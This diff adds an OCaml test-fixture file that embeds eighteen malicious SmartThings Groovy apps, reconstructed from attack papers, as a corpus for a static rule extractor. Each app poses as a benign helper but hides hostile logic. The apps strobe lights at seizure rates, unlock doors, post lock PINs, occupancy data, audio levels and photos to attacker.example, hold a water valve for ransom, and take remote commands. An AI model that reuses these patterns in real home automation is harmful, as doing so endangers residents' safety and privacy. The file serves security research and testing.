@@ -1,0 +1,569 @@
+(** The malicious SmartApps of Table III, reconstructed from the attack
+    literature the paper collects them from ([22], [29], [46], [47]).
+    Each looks useful but hides malicious logic; the rule extractor is
+    expected to recover precise rules for all classes except endpoint
+    attacks (rules live outside the app) and app-update attacks
+    (invisible statically). *)
+
+open App_entry
+
+let creating_seizures =
+  entry "CreatingSeizuresUsingStrobedLight" (Malicious Malicious_control) 1
+    {|
+definition(name: "CreatingSeizuresUsingStrobedLight", description: "Romantic light dimming for dinner time")
+
+preferences {
+  section("Dim these lights...") {
+    input "dinnerLights", "capability.switch", multiple: true, title: "Which lights?"
+  }
+}
+
+def installed() {
+  subscribe(dinnerLights, "switch.on", dinnerTime)
+}
+
+def updated() {
+  unsubscribe()
+  subscribe(dinnerLights, "switch.on", dinnerTime)
+}
+
+def dinnerTime(evt) {
+  // hidden: strobe the lights at seizure-inducing frequency
+  dinnerLights.off()
+  runIn(1, strobeOn)
+}
+
+def strobeOn() {
+  dinnerLights.on()
+  runIn(1, strobeOff)
+}
+
+def strobeOff() {
+  dinnerLights.off()
+}
+|}
+
+let shiqi_battery_monitor =
+  entry "shiqiBatteryMonitor" (Malicious Abusing_permission) 1
+    {|
+definition(name: "shiqiBatteryMonitor", description: "Monitor the battery of your door lock")
+
+preferences {
+  section("Monitor this lock...") {
+    input "monitoredLock", "capability.lock", title: "Which lock?"
+  }
+}
+
+def installed() {
+  subscribe(monitoredLock, "battery", batteryHandler)
+}
+
+def updated() {
+  unsubscribe()
+  subscribe(monitoredLock, "battery", batteryHandler)
+}
+
+def batteryHandler(evt) {
+  if (evt.integerValue < 20) {
+    sendPush("Lock battery low")
+    // hidden: the granted lock capability is abused to unlock
+    monitoredLock.unlock()
+  }
+}
+|}
+
+let hello_home_adware =
+  entry ~controls_devices:false "HelloHomeAdware" (Malicious Adware) 1
+    {|
+definition(name: "HelloHomeAdware", description: "Greets you when you come home")
+
+preferences {
+  section("When I arrive...") {
+    input "mePresence", "capability.presenceSensor", title: "Whose sensor?"
+  }
+}
+
+def installed() {
+  subscribe(mePresence, "presence.present", welcomeHandler)
+}
+
+def updated() {
+  unsubscribe()
+  subscribe(mePresence, "presence.present", welcomeHandler)
+}
+
+def welcomeHandler(evt) {
+  // ad embedded into every notification message
+  sendPush("Welcome home! -- SALE at www.evil-deals.example 50% off!!")
+}
+|}
+
+let co_detector_adware =
+  entry ~controls_devices:false "CODetectorAdware" (Malicious Adware) 1
+    {|
+definition(name: "CODetectorAdware", description: "Carbon monoxide alerts")
+
+preferences {
+  section("Watch this detector...") {
+    input "coSensor", "capability.carbonMonoxideDetector", title: "Where?"
+  }
+}
+
+def installed() {
+  subscribe(coSensor, "carbonMonoxide.detected", coHandler)
+}
+
+def updated() {
+  unsubscribe()
+  subscribe(coSensor, "carbonMonoxide.detected", coHandler)
+}
+
+def coHandler(evt) {
+  sendPush("CO detected! Buy detectors cheap at www.evil-deals.example")
+}
+|}
+
+let lock_manager_spyware =
+  entry "LockManagerSpyware" (Malicious Spyware) 2
+    {|
+definition(name: "LockManagerSpyware", description: "Manage your door lock codes with ease")
+
+preferences {
+  section("Manage this lock...") {
+    input "managedLock", "capability.lock", title: "Which lock?"
+  }
+}
+
+def installed() {
+  subscribe(managedLock, "codeReport", codeHandler)
+  subscribe(managedLock, "lock", lockHandler)
+}
+
+def updated() {
+  unsubscribe()
+  subscribe(managedLock, "codeReport", codeHandler)
+  subscribe(managedLock, "lock", lockHandler)
+}
+
+def codeHandler(evt) {
+  // hidden: leak every lock code to the attacker's server
+  httpPost("http://attacker.example/codes", "code=${evt.value}")
+}
+
+def lockHandler(evt) {
+  if (evt.value == "unlocked") {
+    httpPost("http://attacker.example/usage", "unlocked")
+  }
+}
+|}
+
+let shiqi_light_controller =
+  entry "shiqiLightController" (Malicious Spyware) 2
+    {|
+definition(name: "shiqiLightController", description: "Light control with usage statistics")
+
+preferences {
+  section("Control this light...") {
+    input "bedLight", "capability.switch", title: "Which light?"
+    input "bedMotion", "capability.motionSensor", title: "Motion sensor"
+  }
+}
+
+def installed() {
+  subscribe(bedMotion, "motion", motionHandler)
+}
+
+def updated() {
+  unsubscribe()
+  subscribe(bedMotion, "motion", motionHandler)
+}
+
+def motionHandler(evt) {
+  if (evt.value == "active") {
+    bedLight.on()
+    // hidden: occupancy pattern exfiltration via side channel
+    httpGet("http://attacker.example/beacon?state=active")
+  } else {
+    bedLight.off()
+    httpGet("http://attacker.example/beacon?state=inactive")
+  }
+}
+|}
+
+let pin_code_snooping =
+  entry ~controls_devices:false "DoorLockPinCodeSnooping" (Malicious Spyware) 1
+    {|
+definition(name: "DoorLockPinCodeSnooping", description: "Lock event logger for your records")
+
+preferences {
+  section("Log this lock...") {
+    input "loggedLock", "capability.lock", title: "Which lock?"
+  }
+}
+
+def installed() {
+  subscribe(loggedLock, "codeReport", snoopHandler)
+}
+
+def updated() {
+  unsubscribe()
+  subscribe(loggedLock, "codeReport", snoopHandler)
+}
+
+def snoopHandler(evt) {
+  httpPostJson("http://attacker.example/pins", "pin=${evt.value}")
+}
+|}
+
+let water_valve_ransom =
+  entry "WaterValveRansom" (Malicious Ransomware) 1
+    {|
+definition(name: "WaterValveRansom", description: "Protect your home from leaks")
+
+preferences {
+  section("Protect with this valve...") {
+    input "mainValve", "capability.valve", title: "Which valve?"
+    input "phone1", "phone", title: "Your phone"
+  }
+}
+
+def installed() {
+  subscribe(location, "mode", modeHandler)
+}
+
+def updated() {
+  unsubscribe()
+  subscribe(location, "mode", modeHandler)
+}
+
+def modeHandler(evt) {
+  if (evt.value == "Away") {
+    // hidden: hold the water supply hostage while the victim is away
+    mainValve.close()
+    sendSmsMessage(phone1, "Your water is shut off. Pay 1 BTC to restore.")
+  }
+}
+|}
+
+let smoke_detector_remote =
+  entry "SmokeDetectorRemote" (Malicious Remote_control) 3
+    {|
+definition(name: "SmokeDetectorRemote", description: "Smart smoke responses, cloud enhanced")
+
+preferences {
+  section("When smoke is detected...") {
+    input "smokeSensor", "capability.smokeDetector", title: "Where?"
+    input "houseSwitches", "capability.switch", multiple: true, title: "React with switches"
+  }
+}
+
+def installed() {
+  subscribe(smokeSensor, "smoke", smokeHandler)
+}
+
+def updated() {
+  unsubscribe()
+  subscribe(smokeSensor, "smoke", smokeHandler)
+}
+
+def smokeHandler(evt) {
+  // hidden: command fetched from the attacker's server at runtime
+  httpGet("http://attacker.example/cmd") { resp ->
+    def cmd = resp.data
+    switch (cmd) {
+      case "on":
+        houseSwitches.on()
+        break
+      case "off":
+        houseSwitches.off()
+        break
+    }
+  }
+}
+|}
+
+let fire_alarm_remote =
+  entry "FireAlarmRemote" (Malicious Remote_control) 3
+    {|
+definition(name: "FireAlarmRemote", description: "Cloud-connected fire alarm")
+
+preferences {
+  section("Alarm...") {
+    input "fireSiren", "capability.alarm", title: "Which alarm?"
+  }
+}
+
+def installed() {
+  runEvery15Minutes(pollServer)
+}
+
+def updated() {
+  unschedule()
+  runEvery15Minutes(pollServer)
+}
+
+def pollServer() {
+  httpGet("http://attacker.example/alarmcmd") { resp ->
+    def cmd = resp.data
+    switch (cmd) {
+      case "siren":
+        fireSiren.siren()
+        break
+      case "off":
+        fireSiren.off()
+        break
+    }
+  }
+}
+|}
+
+let malicious_camera_ipc =
+  entry "MaliciousCameraIPC" (Malicious Ipc_collusion) 1
+    {|
+definition(name: "MaliciousCameraIPC", description: "Snapshot camera on motion")
+
+preferences {
+  section("Camera gear...") {
+    input "spyCamera", "capability.imageCapture", title: "Which camera?"
+    input "hallMotion", "capability.motionSensor", title: "Motion sensor"
+  }
+}
+
+def installed() {
+  subscribe(hallMotion, "motion.active", motionHandler)
+}
+
+def updated() {
+  unsubscribe()
+  subscribe(hallMotion, "motion.active", motionHandler)
+}
+
+def motionHandler(evt) {
+  spyCamera.take()
+  // hidden: signal the collusive partner app through shared state
+  state.signal = "occupied"
+}
+|}
+
+let presence_sensor_ipc =
+  entry "PresenceSensorIPC" (Malicious Ipc_collusion) 1
+    {|
+definition(name: "PresenceSensorIPC", description: "Presence-based door convenience")
+
+preferences {
+  section("Door gear...") {
+    input "frontLock", "capability.lock", title: "Which lock?"
+    input "owner", "capability.presenceSensor", title: "Owner sensor"
+  }
+}
+
+def installed() {
+  subscribe(owner, "presence", presenceHandler)
+}
+
+def updated() {
+  unsubscribe()
+  subscribe(owner, "presence", presenceHandler)
+}
+
+def presenceHandler(evt) {
+  // hidden: collusion channel - act on the partner app's signal
+  if (state.signal == "occupied") {
+    frontLock.unlock()
+  }
+}
+|}
+
+let auto_camera2 =
+  entry ~controls_devices:false "AutoCamera2" (Malicious Shadow_payload) 1
+    {|
+definition(name: "AutoCamera2", description: "Automatic photo backups")
+
+preferences {
+  section("Back up this camera...") {
+    input "homeCamera", "capability.imageCapture", title: "Which camera?"
+  }
+}
+
+def installed() {
+  subscribe(homeCamera, "image", imageHandler)
+}
+
+def updated() {
+  unsubscribe()
+  subscribe(homeCamera, "image", imageHandler)
+}
+
+def imageHandler(evt) {
+  // hidden: ship every photo to an innocuous-looking encrypted URL
+  httpPost("https://cdn.example/u/aGlkZGVuX2VuZHBvaW50", "img=${evt.value}")
+}
+|}
+
+let baby_monitor_leaker =
+  entry ~controls_devices:false "BabyMonitorLeaker" (Malicious Spyware) 1
+    {|
+definition(name: "BabyMonitorLeaker", description: "Nursery sound level monitor")
+
+preferences {
+  section("Monitor this sensor...") {
+    input "nurseryMic", "capability.soundPressureLevel", title: "Which sensor?"
+  }
+}
+
+def installed() {
+  subscribe(nurseryMic, "soundPressureLevel", soundHandler)
+}
+
+def updated() {
+  unsubscribe()
+  subscribe(nurseryMic, "soundPressureLevel", soundHandler)
+}
+
+def soundHandler(evt) {
+  httpPost("http://attacker.example/audio", "level=${evt.value}")
+}
+|}
+
+let backdoor_pin_injection =
+  entry ~controls_devices:false "BackdoorPinCodeInjection" (Malicious Endpoint_attack) (-1)
+    {|
+definition(name: "BackdoorPinCodeInjection", description: "Remote lock code management")
+
+preferences {
+  section("Manage this lock...") {
+    input "managedLock", "capability.lock", title: "Which lock?"
+  }
+}
+
+mappings {
+  path("/setcode") {
+    action: [POST: "injectCode"]
+  }
+}
+
+def installed() {
+}
+
+def updated() {
+}
+
+def injectCode() {
+  // the automation is driven entirely by external HTTP requests
+  managedLock.unlock()
+}
+|}
+
+let disabling_vacation_mode =
+  entry ~controls_devices:false "DisablingVacationMode" (Malicious Endpoint_attack) (-1)
+    {|
+definition(name: "DisablingVacationMode", description: "Mode dashboard endpoint")
+
+preferences {
+  section("No devices needed") {
+    paragraph "Exposes mode control"
+  }
+}
+
+mappings {
+  path("/mode") {
+    action: [POST: "setMode"]
+  }
+}
+
+def installed() {
+}
+
+def updated() {
+}
+
+def setMode() {
+  setLocationMode("Home")
+}
+|}
+
+let bon_voyage_repackaging =
+  entry "BonVoyageRepackaging" (Malicious App_update) 1
+    {|
+definition(name: "BonVoyageRepackaging", description: "Set Away mode when everyone leaves")
+
+preferences {
+  section("When this person leaves...") {
+    input "traveler", "capability.presenceSensor", title: "Who?"
+  }
+}
+
+def installed() {
+  subscribe(traveler, "presence.not present", departedHandler)
+}
+
+def updated() {
+  unsubscribe()
+  subscribe(traveler, "presence.not present", departedHandler)
+}
+
+def departedHandler(evt) {
+  // statically identical to the benign app; the attack arrives later
+  // through a silent cloud-side code update
+  setLocationMode("Away")
+}
+|}
+
+let powers_out_alert =
+  entry ~controls_devices:false "PowersOutAlert" (Malicious App_update) 1
+    {|
+definition(name: "PowersOutAlert", description: "Alert when power fails")
+
+preferences {
+  section("Monitor this meter...") {
+    input "meter", "capability.powerMeter", title: "Which meter?"
+    input "phone1", "phone", title: "Phone number?"
+  }
+}
+
+def installed() {
+  subscribe(meter, "power", powerHandler)
+}
+
+def updated() {
+  unsubscribe()
+  subscribe(meter, "power", powerHandler)
+}
+
+def powerHandler(evt) {
+  // benign at review time; malicious behaviour shipped via app update
+  if (evt.integerValue < 5) {
+    sendSmsMessage(phone1, "Power appears to be out")
+  }
+}
+|}
+
+let all =
+  [
+    creating_seizures;
+    shiqi_battery_monitor;
+    hello_home_adware;
+    co_detector_adware;
+    lock_manager_spyware;
+    shiqi_light_controller;
+    pin_code_snooping;
+    water_valve_ransom;
+    smoke_detector_remote;
+    fire_alarm_remote;
+    malicious_camera_ipc;
+    presence_sensor_ipc;
+    auto_camera2;
+    baby_monitor_leaker;
+    backdoor_pin_injection;
+    disabling_vacation_mode;
+    bon_voyage_repackaging;
+    powers_out_alert;
+  ]
+
+(** Can the static rule extractor recover the app's (malicious)
+    automation? Endpoint attacks define rules outside the app; app-update
+    attacks are invisible statically (Table III's two ✗ rows). *)
+let statically_analyzable (e : App_entry.t) =
+  match e.App_entry.category with
+  | Malicious (Endpoint_attack | App_update) -> false
+  | _ -> true
